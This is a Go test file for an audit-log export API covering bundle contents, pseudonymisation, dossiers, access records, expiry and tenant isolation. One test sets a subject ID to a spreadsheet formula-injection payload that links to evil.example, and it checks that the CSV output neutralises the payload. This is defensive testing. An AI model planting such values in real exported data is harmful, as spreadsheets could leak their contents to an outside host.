package api

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"nod/tests/bucket"
)

// wish is the body of an export of all that there is, with an edit if one is given.
func (h *house) wish(edit func(object)) object {
	w := object{"from": h.now().Add(-time.Hour), "to": h.now().Add(time.Hour), "identifiers": "pseudonyms"}
	if edit != nil {
		edit(w)
	}
	return w
}

// export has a bundle made and returns its id.
func (h *house) export(edit func(object)) string {
	h.t.Helper()
	return text(h.do(h.t, "POST", "/v1/exports", h.auditor, h.wish(edit)).ok(201), "id")
}

// fetched is the bundle of an export that is ready.
func (h *house) fetched(id string) *bundled {
	h.t.Helper()
	e := h.do(h.t, "GET", "/v1/exports/"+id, h.auditor, nil).ok(200)
	r := h.do(h.t, "GET", "/v1/exports/"+id+"/bundle", h.auditor, nil)
	if r.status != 200 || r.header.Get("Content-Type") != "application/zip" {
		h.t.Fatalf("the bundle of %v is answered %d %s: %.300s", e, r.status, r.header.Get("Content-Type"), r.body)
	}
	if sum := sha256.Sum256(r.body); e["sha256"] != hex.EncodeToString(sum[:]) || e["bytes"] != float64(len(r.body)) {
		h.t.Errorf("the bundle is not what %v says", e)
	}
	return unpack(h.t, r.body)
}

func TestAnExportHoldsTheLogAndAllThatItRestsOn(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	p := h.agreed()
	p.verify("a1").verdict("pass")
	h.visitor().decide("refused").ok(201)
	h.publish(func(draft, _ object) { draft["contents"].(object)["en"].(object)["title"] = "Another title" })
	wish := h.wish(nil) // the same instants twice
	asked := h.do(t, "POST", "/v1/exports", h.auditor, wish).ok(201)
	id, again := text(asked, "id"), text(h.do(t, "POST", "/v1/exports", h.auditor, wish).ok(201), "id")
	if asked["state"] != "waiting" {
		t.Errorf("it begins as %v", asked["state"])
	}
	early := h.do(t, "GET", "/v1/exports/"+id+"/bundle", h.auditor, nil)
	if early.refused(409, "export-not-ready"); early.header.Get("Retry-After") == "" {
		t.Error("nobody is told when to come back")
	}
	w.tick(t)
	lines := h.lines()
	b := h.fetched(id)
	b.holdsTogether(h)
	if now := h.lines(); len(now) != len(lines)+1 || !strings.Contains(now[len(lines)], `"access.export"`) {
		t.Errorf("fetching it has written %v", now[len(lines):])
	}
	if !slices.Equal(b.lines("records.ndjson"), lines) {
		t.Error("the bundle's lines are not those of the log")
	}
	if b.manifest["complete"] != true || b.manifest["records"] != float64(len(lines)) || b.files["proof/support.ndjson"] != "" {
		t.Errorf("the manifest says %v", b.manifest)
	}
	if n := strings.Count(b.files["checks.csv"], "\r\n"); n != 3 {
		t.Errorf("checks.csv has %d rows, want a head, a start and a pass:\n%s", n, b.files["checks.csv"])
	}
	for name, want := range map[string]string{"notices/" + h.notice + ".zh-CN.json": `"id":"` + h.notice, "delegations/" + h.delegation + ".json": h.delegation} {
		if !strings.Contains(b.files[name], want) {
			t.Errorf("%s is %.100q", name, b.files[name])
		}
	}
	if strings.Contains(string(b.raw), p.subject) || b.mentions(p.subject) {
		t.Error("the bundle names a person")
	}
	if other := h.fetched(again); !bytes.Equal(other.raw, b.raw) {
		t.Error("over the same checkpoint the same export is another file")
	}
	left, err := filepath.Glob(filepath.Join(strings.TrimPrefix(w.nod.Config.Objects, "file:"), "exports", h.id, id, "*"))
	if err != nil || len(left) != 1 {
		t.Errorf("of the work %v are left, %v", left, err)
	}
}

// What is left out of a bundle is left out whole, and what is in it can still be checked:
// the consent and the notice of before its time are beside it.
func TestAnExportOfAPartIsClosed(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	p, q := h.agreed(), h.agreed()
	w.pass(3 * time.Hour)
	for _, v := range []*person{p, q} {
		v.open().verify("a1").verdict("pass")
	}
	w.tick(t)
	window, one, none := h.export(nil), h.export(func(x object) { x["subject"], x["purposes"], x["reason"] = p.subject, []string{"exam"}, "audit" }),
		h.export(func(x object) { x["purposes"] = []string{"training"} })
	stranger := h.export(func(x object) { x["subject"], x["reason"] = "nobody-at-all", "audit" })
	w.tick(t)

	b := h.fetched(window)
	b.holdsTogether(h)
	support := strings.Join(b.lines("proof/support.ndjson"), "\n")
	if b.manifest["complete"] != true || strings.Count(support, `"consent.granted"`) != 2 || !strings.Contains(support, `"notice.published"`) {
		t.Errorf("beside the range there is %s", support)
	}
	b = h.fetched(one)
	b.holdsTogether(h)
	if b.manifest["complete"] != false || len(b.lines("records.ndjson")) == 0 {
		t.Errorf("the manifest says %v", b.manifest)
	}
	for _, line := range b.lines("records.ndjson") {
		if !strings.Contains(line, `"subject":"`+p.pseudonym()) || !strings.Contains(line, `"purpose":"exam"`) {
			t.Errorf("the bundle about one person holds %s", line)
		}
	}
	if n := strings.Count(b.files["proof/support.ndjson"], `"consent.granted"`); n != 1 {
		t.Errorf("%d consents are beside it", n)
	}
	for _, id := range []string{none, stranger} {
		b = h.fetched(id)
		b.holdsTogether(h)
		if len(b.lines("records.ndjson")) != 0 || b.manifest["records"] != float64(0) {
			t.Errorf("a bundle of nothing holds %v", b.manifest)
		}
	}
}

func TestD16_AnExportNamesPeopleOnlyForAReason(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	p := h.agreed()
	p.verify("a1").verdict("pass")
	for name, edit := range map[string]func(object){
		"no reason": func(x object) { x["identifiers"] = "subjects" },
		"a dossier without a reason": func(x object) {
			x["subject"] = p.subject
			delete(x, "from")
			delete(x, "to")
		},
		"a reason of no list":  func(x object) { x["identifiers"], x["reason"] = "subjects", "curiosity" },
		"nothing said of it":   func(x object) { delete(x, "identifiers") },
		"another word":         func(x object) { x["identifiers"] = "names" },
		"a range of nothing":   func(x object) { x["to"] = x["from"] },
		"no range":             func(x object) { delete(x, "from"); delete(x, "to") },
		"no such purpose":      func(x object) { x["purposes"] = []string{"love"} },
		"a purpose said twice": func(x object) { x["purposes"] = []string{"exam", "exam"} },
	} {
		before := len(h.recordsOf("export."))
		h.do(t, "POST", "/v1/exports", h.auditor, h.wish(edit), bad).refused(422, "invalid-value")
		if len(h.recordsOf("export.")) != before {
			t.Errorf("%s: it is on record", name)
		}
	}
	id := h.export(func(x object) {
		x["identifiers"], x["reason"], x["subject"] = "subjects", "authority_inquiry", p.subject
	})
	w.tick(t)
	b := h.fetched(id)
	b.holdsTogether(h)
	for _, file := range []string{"consents.csv", "checks.csv"} {
		rows := strings.Split(strings.TrimSuffix(b.files[file], "\r\n"), "\r\n")
		if len(rows) < 2 || !strings.HasSuffix(rows[0], ",subject_id") || !strings.HasSuffix(rows[1], ","+p.subject) {
			t.Errorf("%s: %q", file, rows)
		}
	}
	odd := h.person()
	odd.subject = `=HYPERLINK("http://evil.example/?"&A1)`
	odd.open().decide("granted").ok(201)
	w.tick(t)
	id = h.export(func(x object) { x["identifiers"], x["reason"], x["subject"] = "subjects", "audit", odd.subject })
	w.tick(t)
	if table := h.fetched(id).files["consents.csv"]; !strings.HasSuffix(table, `,"'=HYPERLINK(""http://evil.example/?""&A1)"`+"\r\n") {
		t.Errorf("a spreadsheet would run %q", table)
	}
	if strings.Contains(b.files["records.ndjson"], p.subject) {
		t.Error("the log's own lines name a person")
	}
}

func TestD17_AnExportIsOnRecord(t *testing.T) {
	t.Parallel()
	h := newWorld(t, setup{}).house(t)
	p := h.agreed()
	h.tick(t)
	body := h.wish(func(x object) {
		x["identifiers"], x["reason"], x["subject"], x["purposes"] = "subjects", "audit", p.subject, []string{"training", "exam"}
	})
	first := h.do(t, "POST", "/v1/exports", h.auditor, body, with("Idempotency-Key", "e-1")).ok(201)
	second := h.do(t, "POST", "/v1/exports", h.auditor, body, with("Idempotency-Key", "e-1")).ok(201)
	made := h.recordsOf("export.made")
	if len(made) != 1 || first["id"] != second["id"] {
		t.Fatalf("asked for once, made as %v and %v, on record %v", first, second, made)
	}
	r := made[0]
	if r["actor"] != first["made_by"] || r["reason"] != "audit" || r["identifiers"] != "subjects" || r["about"] != p.pseudonym() ||
		r["export"] != first["id"] || fmt.Sprint(r["purposes"]) != "[exam training]" || r["log_size"] == float64(0) || r["subject"] != nil {
		t.Errorf("the Record is %v", r)
	}
	list := items(h.do(t, "GET", "/v1/access?"+h.span(time.Hour, time.Hour), h.admin, nil).ok(200))
	if last := list[len(list)-1]; last["type"] != "export.made" || last["pseudonym"] != p.pseudonym() || last["reason"] != "audit" || last["export"] != first["id"] ||
		last["identifiers"] != "subjects" || fmt.Sprint(last["purposes"]) != "[exam training]" {
		t.Errorf("the log of accesses ends with %v", last)
	}
	shown := h.do(t, "GET", "/v1/exports", h.auditor, nil)
	if list := items(shown.ok(200)); len(list) != 1 || list[0]["one_person"] != true || strings.Contains(string(shown.body), p.pseudonym()) {
		t.Errorf("the list is %s", shown.body)
	}
}

// Whoever fetches a bundle is on record, also if somebody else had it made; and an id that
// is nobody's leaves nothing in the log that leads to it.
func TestD17_FetchingABundleIsOnRecord(t *testing.T) {
	t.Parallel()
	h := newWorld(t, setup{}).house(t)
	h.agreed()
	stranger := func(x object) { x["subject"], x["reason"] = "nobody-here", "audit" }
	ids := []string{h.export(stranger), h.export(stranger)}
	h.tick(t)
	another := h.key("auditor", "Zhao Min, audit")
	h.do(t, "GET", "/v1/exports/"+ids[0]+"/bundle", text(another, "key"), nil)
	list := h.recordsOf("access.export")
	if len(list) != 1 || list[0]["actor"] != another["id"] || list[0]["export"] != ids[0] || list[0]["identifiers"] != "pseudonyms" {
		t.Fatalf("the log has %v", list)
	}
	shown := items(h.do(t, "GET", "/v1/access?"+h.span(time.Hour, time.Hour), h.admin, nil).ok(200))
	if last := shown[len(shown)-1]; last["type"] != "access.export" || last["holder"] != "Zhao Min, audit" || last["export"] != ids[0] {
		t.Errorf("the log of accesses ends with %v", last)
	}
	made := h.recordsOf("export.made")
	if a, b := text(made[0], "about"), text(made[1], "about"); len(a) != 32 || a == b {
		t.Errorf("the stranger is %q, then %q", a, b)
	}
}

// A dossier is the whole life of one person in the log, however long ago that began, and
// shows that nothing is missing in front or in between.
func TestD17_ADossierIsAllAboutOnePersonForAReason(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	p, q := h.agreed(), h.agreed()
	p.verify("a1").verdict("pass")
	w.tick(t)
	w.pass(100 * 24 * time.Hour)
	p.open().verify("a1").verdict("pass")
	q.open().decide("refused").ok(201)
	w.tick(t)
	wish := object{"subject": p.subject, "identifiers": "subjects", "reason": "legal_proceedings"}
	e := h.do(t, "POST", "/v1/exports", h.auditor, wish).ok(201)
	if e["dossier"] != true || e["one_person"] != true || e["from"] != nil || e["to"] != nil {
		t.Errorf("the export is %v", e)
	}
	made := h.recordsOf("export.made")
	if r := made[len(made)-1]; r["about"] != p.pseudonym() || r["reason"] != "legal_proceedings" || r["from"] != nil || r["to"] != nil {
		t.Errorf("the Record is %v", r)
	}
	w.tick(t)
	b := h.fetched(text(e, "id"))
	b.holdsTogether(h)
	var want []string
	for _, line := range h.lines() {
		if strings.Contains(line, `"subject":"`+p.pseudonym()) {
			want = append(want, line)
		}
	}
	if got := b.lines("records.ndjson"); !slices.Equal(got, want) || len(got) < 6 {
		t.Errorf("it holds %d lines, the log has %d about them", len(got), len(want))
	}
	if filter := b.manifest["filter"].(object); len(filter) != 1 || filter["subject"] != p.pseudonym() || b.manifest["first"] != float64(0) || b.manifest["count"] != b.manifest["size"] {
		t.Errorf("the manifest is %v", b.manifest)
	}
	if !b.mentions(p.subject) || b.mentions(q.subject) {
		t.Error("it does not name them, or names somebody else")
	}
	part := h.export(func(x object) { x["subject"], x["reason"] = p.subject, "audit" })
	if v := h.do(t, "GET", "/v1/exports/"+part, h.auditor, nil).ok(200); v["dossier"] != nil || v["one_person"] != true {
		t.Errorf("a part of a life is %v", v)
	}
}

// The platform learns that a bundle can be fetched, and nothing that fetches it.
func TestAReadyExportIsTold(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h, c := w.house(t), newConsumer(t, w)
	secret := h.hears(c)
	h.agreed()
	id := h.export(nil)
	h.tick(t)
	types, data := h.told(c, secret)
	if !slices.Equal(types, []string{"export.ready"}) {
		t.Fatalf("told %v", types)
	}
	e := h.do(t, "GET", "/v1/exports/"+id, h.auditor, nil).ok(200)
	only(t, data["export.ready"], object{"enterprise": h.id, "mode": "live", "export": id, "sha256": e["sha256"], "bytes": e["bytes"],
		"records": e["records"], "expires_at": e["expires_at"]})
	if b := h.fetched(id); b.manifest["records"] != e["records"] {
		t.Errorf("it holds %v Records, told are %v", b.manifest["records"], e["records"])
	}
	if types, _ := h.told(c, secret); len(types) != 0 {
		t.Errorf("told again: %v", types)
	}
}

func TestAnExportGoesByItselfAndIsNobodyElses(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h, other := w.house(t), w.house(t)
	id := h.export(nil)
	w.tick(t)
	for _, path := range []string{"", "/bundle"} {
		h.do(t, "GET", "/v1/exports/"+id+path, other.auditor, nil).refused(404, "not-found")
		h.do(t, "GET", "/v1/exports/"+id+path, h.admin, nil).refused(403, "wrong-role")
	}
	if list := items(h.do(t, "GET", "/v1/exports", other.auditor, nil).ok(200)); len(list) != 0 {
		t.Errorf("another enterprise sees %v", list)
	}
	h.fetched(id)
	w.pass(7*24*time.Hour - time.Minute)
	h.fetched(id)
	w.pass(2 * time.Minute)
	gone := func() {
		t.Helper()
		h.do(t, "GET", "/v1/exports/"+id+"/bundle", h.auditor, nil).refused(410, "export-gone")
		if e := h.do(t, "GET", "/v1/exports/"+id, h.auditor, nil).ok(200); e["state"] != "expired" {
			t.Errorf("it is %v", e["state"])
		}
	}
	gone()
	w.tick(t)
	gone()
	folder := filepath.Join(strings.TrimPrefix(w.nod.Config.Objects, "file:"), "exports", h.id, id)
	if _, err := os.Stat(folder); !os.IsNotExist(err) {
		t.Errorf("its files are still there: %v", err)
	}
}

func TestAnEnterpriseHasSoManyExportsMadeAtOnce(t *testing.T) {
	t.Parallel()
	h := newWorld(t, setup{}).house(t)
	for range 10 {
		h.export(nil)
	}
	h.do(t, "POST", "/v1/exports", h.auditor, h.wish(nil)).refused(409, "too-many-exports")
	h.tick(t)
	h.export(nil)
}

// A closed enterprise gets its records in one file.
func TestD15_AClosedEnterpriseTakesItsRecords(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	h.agreed()
	h.do(t, "POST", "/v1/enterprises/"+h.id+"/close", h.operator, nil).ok(200)
	id := h.export(func(x object) { x["identifiers"], x["reason"] = "subjects", "end_of_service" })
	w.tick(t)
	b := h.fetched(id)
	b.holdsTogether(h)
	if !strings.Contains(b.files["instructions.csv"], ",enterprise.closed,") {
		t.Error("the bundle does not know of the end")
	}
}

// From an object storage the bundle is fetched there: a function could not answer with it.
func TestABundleInAnObjectStorageIsALink(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{objects: bucket.Start(t)})
	h := w.house(t)
	h.agreed()
	id := h.export(nil)
	w.tick(t)
	r := h.do(t, "GET", "/v1/exports/"+id+"/bundle", h.auditor, nil)
	if r.status != 302 || len(r.body) > 0 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	told := h.do(t, "GET", "/v1/exports/"+id+"/bundle?as=link", h.auditor, nil).ok(200) // a page may not follow the other
	if told["name"] != "nod-"+id+".zip" {
		t.Errorf("the file is called %v", told["name"])
	}
	for _, link := range []string{r.header.Get("Location"), text(told, "url")} {
		unpack(t, fetch(t, link)).holdsTogether(h)
	}
	if n := len(h.recordsOf("access.export")); n != 2 {
		t.Errorf("%d accesses are on record, want 2", n)
	}
}

// fetch gets what a link leads to.
func fetch(t *testing.T, link string) []byte {
	t.Helper()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, link, nil)
	if err != nil {
		t.Fatal(err)
	}
	answer, err := http.DefaultClient.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	raw, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestABundleWithoutALinkComesAsItself(t *testing.T) {
	t.Parallel()
	w := newWorld(t, setup{})
	h := w.house(t)
	id := h.export(nil)
	w.tick(t)
	r := h.do(t, "GET", "/v1/exports/"+id+"/bundle?as=link", h.auditor, nil)
	if r.status != 200 || r.header.Get("Content-Type") != "application/zip" {
		t.Fatalf("%d %s", r.status, r.header.Get("Content-Type"))
	}
	unpack(t, r.body).holdsTogether(h)
	h.do(t, "GET", "/v1/exports/"+id+"/bundle?as=smoke", h.auditor, nil, bad).refused(422, "invalid-value")
	if n := len(h.recordsOf("access.export")); n != 1 {
		t.Errorf("%d accesses are on record, want 1", n)
	}
}
